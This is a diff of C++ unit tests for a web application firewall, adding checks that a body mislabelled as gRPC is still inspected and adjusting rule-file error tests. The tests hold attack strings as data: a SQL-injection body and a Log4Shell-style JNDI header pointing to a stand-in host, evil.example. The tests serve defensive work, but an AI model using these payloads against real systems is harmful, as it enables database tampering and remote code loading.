@@ -307,8 +307,17 @@ TEST_F(Firewall, a_full_queue_closes_the_door_and_other_routes_stay_open) {
   EXPECT_EQ(get().status, 200);
 }
 
-TEST_F(Firewall, streams_and_handshakes_are_inspected_by_their_head) {
+// A type is easily claimed: it must not be a way around the rules.
+TEST_F(Firewall, a_body_is_not_spared_for_calling_itself_grpc) {
   open({stage()});
+  const auto bad = ask("POST /form", {"Content-Type: application/grpc"}, "a=1' or 1=1--");
+  EXPECT_EQ(app.asked, 0) << bad.head;
+}
+
+TEST_F(Firewall, messages_of_grpc_pass_where_it_is_spoken) {
+  FirewallConfig config;
+  config.grpc = true;
+  open({stage(config)});
   const Lines grpc{"Content-Type: application/grpc", "TE: trailers"};
   const auto bad =
       ask("POST /pkg.Service/Do", {"Content-Type: application/grpc", "X-A: ${jndi:ldap://evil.example}"}, "....");
@@ -405,8 +414,6 @@ TEST(FirewallRules, a_syntax_error_is_told_with_file_and_line) {
   EXPECT_TRUE(rules.error().message().contains(file.path + ":2: Expecting an action")) << rules.error().message();
   file.write("SecMarker A\nSecRule ARGS \"@rx x\" \"pass\"\n");
   EXPECT_TRUE(all.rules(config).error().message().contains(file.path + ":2: Rules must have an ID"));
-  file.write("SecAction \"id:1,pass\"\nSecAction \"id:1,pass\"\n");
-  EXPECT_TRUE(all.rules(config).error().message().contains(file.path + ": Rule id: 1 is duplicated"));
   config.rules = {"/nowhere/x.conf"};
   EXPECT_TRUE(all.rules(config).error().message().contains("/nowhere/x.conf: cannot be read"));
   config.rules = {"owasp-crs"};
